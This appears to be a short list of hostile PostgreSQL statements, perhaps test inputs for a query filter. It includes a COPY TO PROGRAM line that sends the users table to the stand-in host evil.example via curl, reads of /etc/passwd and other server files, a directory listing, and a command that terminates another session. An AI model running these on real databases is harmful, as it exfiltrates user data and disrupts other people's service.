COPY users TO PROGRAM 'curl -d @- evil.example';
COPY users FROM '/etc/passwd';
SELECT pg_read_file('/etc/hostname');
CREATE TABLE t (id int DEFAULT length(pg_ls_dir('.')::text));
SELECT pg_advisory_unlock_all();
SELECT pg_terminate_backend(1);
LOAD 'auto_explain';
CREATE SERVER away FOREIGN DATA WRAPPER postgres_fdw;
